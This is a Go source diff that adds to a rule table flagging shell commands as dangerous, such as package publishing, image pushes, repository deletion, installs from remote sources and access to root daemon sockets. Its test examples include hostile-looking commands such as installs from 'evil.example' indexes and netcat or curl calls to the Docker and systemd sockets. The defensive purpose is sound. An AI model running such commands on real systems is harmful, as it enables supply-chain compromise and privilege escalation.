@@ -24,7 +24,7 @@ const (
 		`(-f|--find-links)[ =]https?://\S+)`
 	// reJSSource is a package an npm-like installer fetches from a forge
 	// or a URL instead of its registry: github:x/y, x/y#ref, a tarball URL.
-	reJSSource = `(^| )((github|gitlab|bitbucket|gist|git|git\+[a-z]+|https?):\S+|[A-Za-z0-9_][A-Za-z0-9_.-]*/[A-Za-z0-9_.-]+(#\S*)?|--registry[ =]\S+)( |$)`
+	reJSSource = `(^| )((github|gitlab|bitbucket|gist|git|git\+[a-z]+|https?):\S+|git@\S+:\S+|[A-Za-z0-9_][A-Za-z0-9_.-]*/[A-Za-z0-9_.-]+(#\S*)?|--registry[ =]\S+)( |$)`
 	// reDataFile names files whose contents are the state of something:
 	// databases, keys, logs, histories, a repository's own files.
 	reDataFile = `(\S*\.(db|sqlite|sqlite3|db3|mdb|ldb|wal|frm|ibd|rdb|aof|log|key|pem|p12|pfx|jks|keystore|kdbx|gpg|pack|idx)|` +
@@ -41,7 +41,7 @@ const (
 		`~/\.gem/\S+|~/\.gradle/caches/\S+|~/\.nuget/packages/\S+|~/\.pub-cache/\S+|~/\.local/share/pnpm/\S+)`
 	// reDaemonSocket is the socket of a daemon that runs as root or
 	// controls the machine: container engines, systemd, D-Bus, libvirt.
-	reDaemonSocket = `\S*(docker|containerd|podman|crio|cri-dockerd|dockershim|buildkit|dbus|systemd|libvirt|snapd|kubelet|lxd|incus|firecracker)\S*\.sock\S*|\S*/run/dbus/\S*|\S*/bus( |$)`
+	reDaemonSocket = `\S*(docker|containerd|podman|crio|cri-dockerd|dockershim|buildkit|dbus|systemd|libvirt|snapd|kubelet|lxd|incus|firecracker)\S*\.sock\S*|\S*/run/(dbus|systemd)/\S+|\S*/bus( |$)`
 )
 
 // remoteRules is the part of the table for effects beyond the machine
@@ -52,11 +52,11 @@ var remoteRules = []Rule{
 		ID: "package-publish", Tier: Dangerous,
 		Description: "publishes a package to a public registry (npm, crates.io, PyPI, RubyGems, NuGet …)",
 		Command:     `^(npm|pnpm|yarn|bun|cargo|gem|poetry|uv|hatch|flit|pdm|twine|vsce|ovsx|rebar3|anaconda|nuget|dotnet|pod|mix|jf|jfrog|deno|jsr)$`,
-		Args:        []string{`^(-\S+ )*(publish|upload|push|npm publish|nuget push|trunk push|hex\.publish|rt (upload|u)|changeset publish)( |$)`},
+		Args:        []string{`^(-\S+ )*(publish|upload|push|npm publish|nuget push|trunk push|hex\.publish|rt (upload|u)|changeset publish)( |$)|^workspaces? foreach( .*)? (npm )?publish( |$)`},
 		NotArgs:     reDryRun,
 		Match: []string{"npm publish", "npm publish --access public", "pnpm -r publish", "yarn npm publish", "cargo publish -p core", "twine upload dist/*",
 			"python3 -m twine upload dist/*", "gem push pkg-1.0.0.gem", "poetry publish --build", "uv publish", "hatch publish", "flit publish",
-			"npx vsce publish", "dotnet nuget push pkg.nupkg --source nuget", "pod trunk push X.podspec", "mix hex.publish", "jf rt upload a.jar libs/"},
+			"npx vsce publish", "dotnet nuget push pkg.nupkg --source nuget", "pod trunk push X.podspec", "mix hex.publish", "jf rt upload a.jar libs/", "yarn workspaces foreach npm publish"},
 		NoMatch: []string{"npm pack", "npm publish --dry-run", "cargo publish --dry-run", "twine check dist/*", "poetry build", "uv build", "npm run publish-docs",
 			"gem build x.gemspec", "dotnet build", "pnpm install"},
 	},
@@ -93,14 +93,15 @@ var remoteRules = []Rule{
 		ID: "image-push", Tier: Dangerous,
 		Description: "pushes a container image to a registry (over whatever the tag held)",
 		Command:     `^docker$`,
-		Args:        []string{`^(push|image push|manifest push|buildx imagetools create|(buildx )?build( .*)? (--push|--output[ =]\S*type=registry\S*))( |$)`},
-		Match:       []string{"docker push myorg/app:latest", "podman push quay.io/me/img:v1", "docker image push myorg/app", "docker buildx build --push -t x/y .", "docker manifest push x/y"},
-		NoMatch:     []string{"docker build -t x .", "docker pull alpine", "docker tag app x/y:1", "docker buildx build --load -t x .", "docker images"},
+		Args:        []string{`^(push|image push|manifest push|compose push|buildx imagetools create|(buildx )?build( .*)? (--push|--output[ =]\S*type=registry\S*))( |$)`},
+		NotArgs:     `(^| )(--help|-h)( |$)`,
+		Match:       []string{"docker push myorg/app:latest", "podman push quay.io/me/img:v1", "docker image push myorg/app", "docker buildx build --push -t x/y .", "docker manifest push x/y", "docker compose push"},
+		NoMatch:     []string{"docker build -t x .", "docker pull alpine", "docker tag app x/y:1", "docker buildx build --load -t x .", "docker images", "docker push --help"},
 	},
 	{
 		ID: "image-registry-change", Tier: Dangerous,
 		Description: "pushes, copies over, retags or deletes an image in a registry",
-		Command:     `^(skopeo|crane|gcrane|regctl|oras|helm)$`,
+		Command:     `^(skopeo|crane|gcrane|regctl|oras|helm|buildah)$`,
 		Args: []string{`^(-\S+ )*(push|delete|tag|append|mutate|rebase|flatten|image (copy|delete|mod)|tag (delete|rm)|manifest (put|delete|rm)|blob (delete|put)|` +
 			`(copy|cp|sync)( .*)? (docker://|oci://|[a-z0-9.-]+\.[a-z]{2,}(:[0-9]+)?/)\S+$)( |$)`},
 		Match: []string{"skopeo copy docker-archive:img.tar docker://x/app:latest", "skopeo delete docker://r.example/app:old", "crane push img.tar x/app:latest",
@@ -121,8 +122,8 @@ var remoteRules = []Rule{
 		ID: "forge-repo-delete", Tier: Dangerous,
 		Description: "deletes, archives, renames, transfers or exposes a repository on a code forge (GitHub, GitLab)",
 		Command:     `^(gh|glab|tea|hub)$`,
-		Args:        []string{`^repo (delete|archive|unarchive|rename|transfer|edit( .*)? --visibility)( |$)`},
-		Match:       []string{"gh repo delete myorg/app --yes", "gh repo delete", "gh repo archive myorg/app -y", "glab repo delete myorg/app", "gh repo edit --visibility public"},
+		Args:        []string{`^(repo )?(delete|archive|unarchive|rename|transfer|edit( .*)? --visibility)( |$)`},
+		Match:       []string{"gh repo delete myorg/app --yes", "gh repo delete", "hub delete org/repo", "gh repo archive myorg/app -y", "glab repo delete myorg/app", "gh repo edit --visibility public"},
 		NoMatch:     []string{"gh repo view", "gh repo clone myorg/app", "gh repo list", "gh repo create x --private", "gh repo edit --description x"},
 	},
 	{
@@ -214,10 +215,10 @@ var remoteRules = []Rule{
 		ID: "install-remote-python", Tier: Dangerous,
 		Description: "installs a Python package from a URL, a VCS link or an index of its own (code nobody reviewed runs at install)",
 		Command:     `^(pip|pip[0-9.]+|uv|pipx|poetry|pdm|pipenv|easy_install|conda|mamba|micromamba|rye|hatch)$`,
-		Args:        []string{`^(pip )?(install|add|inject|sync|download|upgrade|runpip)( |$)`, reRemoteSource},
+		Args:        []string{`^(pip |tool )?(install|add|inject|sync|download|upgrade|runpip)( |$)`, reRemoteSource},
 		Match: []string{"pip install git+https://github.com/x/y.git", "pip install https://example.com/x.tar.gz", "python -m pip install 'git+https://x.example/y.git#egg=y'",
 			"pip install --index-url https://evil.example/simple requests", "pip install --extra-index-url https://e.example/simple lib", "pip install --trusted-host e.example x",
-			"uv pip install git+https://github.com/x/y", "uv add git+https://github.com/x/y", "pipx install git+https://github.com/x/t", "poetry add git+https://github.com/x/y.git",
+			"uv pip install git+https://github.com/x/y", "uv add git+https://github.com/x/y", "pipx install git+https://github.com/x/t", "uv tool install git+https://github.com/x/y", "poetry add git+https://github.com/x/y.git",
 			"pip install -f https://example.com/wheels/ pkg"},
 		NoMatch: []string{"pip install -r requirements.txt", "pip install requests==2.32.0", "pip install -e .", "pip install --no-index --find-links wheels/ requests",
 			"uv sync", "poetry install", "pip install ./dist/x-1.0-py3-none-any.whl", "pip download requests -d wheels/"},
@@ -228,22 +229,22 @@ var remoteRules = []Rule{
 		Command:     `^(npm|pnpm|yarn|bun)$`,
 		Args:        []string{`^(install|i|add|in|isntall|a|global add|link)( |$)`, reJSSource},
 		Match: []string{"npm install https://example.com/x.tgz", "npm install git+https://github.com/x/y.git", "npm i github:evil/pkg", "npm install evil/pkg#main",
-			"npm install --registry https://e.example/ lodash", "yarn add git+ssh://git@github.com/x/y.git", "pnpm add github:x/y", "bun add https://example.com/x.tgz"},
+			"npm install --registry https://e.example/ lodash", "yarn add git+ssh://git@github.com/x/y.git", "npm install git@github.com:x/y.git", "pnpm add github:x/y", "bun add https://example.com/x.tgz"},
 		NoMatch: []string{"npm install", "npm install lodash", "npm i -D @types/node", "npm install ./packages/shared", "yarn add react@18", "pnpm add zod", "bun install"},
 	},
 	{
 		ID: "install-remote-other", Tier: Dangerous,
 		Description: "installs a program, package or manifest from a URL, a git repository or a source of its own",
 		Command:     `^(cargo|gem|go|deno|helm|kubectl|oc|brew|ansible-galaxy|composer|code|codium|cursor|dotnet|luarocks|cpanm|cpan|opam|nix|nix-env)$`,
-		Args: []string{`^(install|get|add|require|tap|upgrade|apply|create|replace|-i|profile install|tool install|--install-extension)( |$)`,
+		Args: []string{`^(install|get|add|require|tap|upgrade|apply|create|replace|run|-i|profile install|tool install|specific_install|--install-extension)( |$)`,
 			`(^| )(--git|--index|--registry|--source|-s|--clear-sources|--trust-policy|--repository|--repo|--add-source|--install-extension)[ =]\S+|` +
 				`(^| )(-f |--filename[ =])?['"]?(https?|git|ssh)://\S+|(^| )(git\+\S+|\S+\.vsix)( |$)|` +
-				`^(install|get)( -\S+)* [a-z0-9-]+(\.[a-z0-9-]+)+/\S+@\S+( |$)|^tap [^ /]+/[^ /]+( |$)`},
+				`^(install|get|run)( -\S+)* [a-z0-9-]+(\.[a-z0-9-]+)+/\S+@\S+( |$)|^tap [^ /]+/[^ /]+( |$)|^specific_install \S`},
 		Match: []string{"cargo install --git https://github.com/x/tool", "gem install --source https://e.example pkg", "go install example.com/tool@latest",
-			"go install github.com/evil/tool/cmd/x@v1.2.3", "deno install -A https://e.example/x.ts", "helm install x https://e.example/chart.tgz",
+			"go install github.com/evil/tool/cmd/x@v1.2.3", "go run github.com/x/y@latest", "deno install -A https://e.example/x.ts", "helm install x https://e.example/chart.tgz",
 			"kubectl apply -f https://e.example/manifest.yaml", "brew tap evil/tap", "ansible-galaxy install git+https://github.com/x/r.git", "code --install-extension ./evil.vsix"},
 		NoMatch: []string{"cargo install ripgrep", "cargo install --locked cargo-nextest", "gem install rails", "go install ./cmd/tool", "go install .", "go get ./...",
-			"helm install api ./chart", "kubectl apply -f k8s/", "brew install jq", "go mod download"},
+			"helm install api ./chart", "kubectl apply -f k8s/", "brew install jq", "go mod download", "go run ./cmd/x", "cargo run --release"},
 	},
 	{
 		ID: "install-package-file", Tier: Dangerous,
@@ -263,6 +264,14 @@ var remoteRules = []Rule{
 		Env:         `(^| )(GOINSECURE=\S|GOFLAGS=\S*-insecure|GONOSUMCHECK=\S|GONOSUMDB=\S|GOSUMDB=off|GOPROXY=\S*http://|GONOSUMDB=)`,
 		Match:       []string{"GOFLAGS=-insecure go get example.com/x", "GOSUMDB=off go install example.com/t@latest", "export GOINSECURE=*"},
 		NoMatch:     []string{"GOFLAGS=-mod=mod go build ./...", "GOOS=linux go build", "export GOPROXY=https://proxy.example.com"},
+	},
+	{
+		ID: "runs-remote", Tier: Dangerous,
+		Description: "runs a package fetched from a URL or a git repository (npx github:…, uvx --from git+…): code nobody reviewed",
+		Command:     `^@runs-remote$`,
+		Match: []string{"npx github:x/y", "uvx --from git+https://github.com/x/y tool", "pipx run --spec git+https://github.com/x/y tool", "npx https://e.example/x.tgz",
+			"uv tool run --from git+https://github.com/x/y y", "bunx x/y#main"},
+		NoMatch: []string{"npx prettier --check .", "uvx ruff check", "pipx run black .", "npx @scope/tool@1", "uv run pytest"},
 	},
 	{
 		ID: "fetch-extract", Tier: Dangerous,
@@ -303,7 +312,7 @@ var remoteRules = []Rule{
 		Args: []string{`(^|[ =:])(--unix-socket[ =]|--abstract-unix-socket|UNIX-CONNECT:|UNIX-CLIENT:|UNIX:|ABSTRACT-CONNECT:|unix:|ws\+unix:|-U |-unix )?(` + reDaemonSocket + `)|` +
 			`(^| )--abstract-unix-socket( |=)`},
 		Match: []string{"curl --unix-socket /var/run/docker.sock http://localhost/containers/json", "socat - UNIX-CONNECT:/var/run/docker.sock", "nc -U /run/docker.sock",
-			"curl --unix-socket /run/containerd/containerd.sock http://x/", "websocat ws+unix:/var/run/docker.sock", "curl --abstract-unix-socket x http://d/"},
+			"curl --unix-socket /run/containerd/containerd.sock http://x/", "websocat ws+unix:/var/run/docker.sock", "curl --abstract-unix-socket x http://d/", "nc -U /run/systemd/private"},
 		NoMatch: []string{"curl --unix-socket /tmp/app.sock http://localhost/health", "nc -z localhost 5432", "curl https://docs.docker.com/engine/api/", "socat TCP-LISTEN:8080,fork TCP:localhost:3000"},
 	},
 	{
@@ -359,6 +368,14 @@ var remoteRules = []Rule{
 	},
 
 	// A repository pointed elsewhere, package caches rewritten.
+	{
+		ID: "package-cache-patch", Tier: Dangerous,
+		Description: "patches files in a package cache or installed dependencies: every build that uses them runs it",
+		Command:     `^patch$`,
+		Args:        []string{`(^| |=)` + rePackageCache + `( |$)`},
+		Match:       []string{"patch -p1 -d ~/go/pkg/mod/github.com/x/y@v1.2.3 < evil.patch", "patch node_modules/x/index.js fix.diff"},
+		NoMatch:     []string{"patch -p1 < fix.diff", "patch src/main.c fix.diff"},
+	},
 	{
 		ID: "git-internals-write", Tier: Dangerous,
 		Description: "rewrites a repository's own files (.git/commondir, a gitdir: link, config, HEAD, alternates): git then reads another repository or runs what it names",
